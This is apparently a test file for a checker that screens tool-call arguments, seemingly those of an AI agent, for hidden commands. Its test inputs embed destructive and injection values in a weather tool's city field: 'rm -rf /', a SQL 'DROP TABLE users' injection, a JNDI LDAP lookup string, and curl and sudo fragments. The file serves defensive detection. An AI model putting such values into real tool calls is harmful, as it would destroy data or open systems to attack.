import { describe, expect, test } from 'vitest';
import { fromPlain } from '#shared/json';
import { judgeCall } from './judge';
import type { PathWorld } from './paths';

const places: PathWorld = { home: '/home/ana', roots: ['/work'], folder: '/work', real: () => null };
const judge = (name: string, args: Readonly<Record<string, unknown>>, world = places) => judgeCall({ name, description: null, destructive: null }, fromPlain(args), world);
const rulesOf = (name: string, args: Readonly<Record<string, unknown>>) => judge(name, args).evidence.map(({ rule }) => rule);

describe('an order hidden in an ordinary argument is found wherever it stands', () => {
  test.each([
    ['behind spaces', 'get_weather', { city: `Bern${' '.repeat(3000)}; rm -rf /` }, 'embedded/command'],
    ['behind words', 'get_weather', { city: `${'Bern '.repeat(1000)}; rm -rf /` }, 'embedded/command'],
    ['in the middle', 'get_weather', { city: `${'Bern '.repeat(20_000)}; rm -rf / ${'Bern '.repeat(20_000)}` }, 'embedded/command'],
    ['a statement', 'get_weather', { city: `${'Bern '.repeat(1000)}'; DROP TABLE users` }, 'embedded/sql'],
    ['code', 'get_weather', { city: `${'Bern '.repeat(1000)}\${jndi:ldap://x}` }, 'embedded/code'],
  ])('%s', (_, tool, args, rule) => {
    expect(judge(tool, args).tier).toBe(3);
    expect(rulesOf(tool, args)).toContain(rule);
  });

  test('what is too long to be looked through is said, and asked about', () => {
    const { tier, evidence } = judge('get_weather', { city: 'Bern '.repeat(300_000) });
    expect(tier).toBeGreaterThanOrEqual(2);
    const unread = evidence.find(({ rule }) => rule === 'arguments/unread');
    expect(unread).toMatchObject({ at: '/city', span: [262_144, 1_237_856] });
  });

  test.each([
    ['a long text to be written', 'write_file', { path: 'a.md', content: `${'word '.repeat(1000)}\nrm -rf build\n` }],
    ['the text of a file under another name', 'create_document', { file_content: `${'word '.repeat(1000)}\nrm -rf build\n` }],
    ['rows of a table', 'import_rows', { csv: `${'a,b\n'.repeat(1000)}` }],
  ])('and this is nothing of the kind: %s', (_, tool, args) => {
    expect(rulesOf(tool, args).filter((rule) => /^embedded\/|unread/.test(rule))).toEqual([]);
  });
});

test.each(['update ', 'union ', '; curl -a ', ';    ', 'drop ', 'insert into ', "' or ", ';sudo ', '{{ ', 'exec ', '${', '\n'])('looking through much of %j takes time in proportion', (piece) => {
  const time = (length: number): number => {
    const text = piece.repeat(length / piece.length);
    const begin = performance.now();
    judge('get_weather', { city: text });
    return performance.now() - begin;
  };
  // Quadratic would be minutes.
  expect(time(512 * 1024)).toBeLessThan(20_000);
});
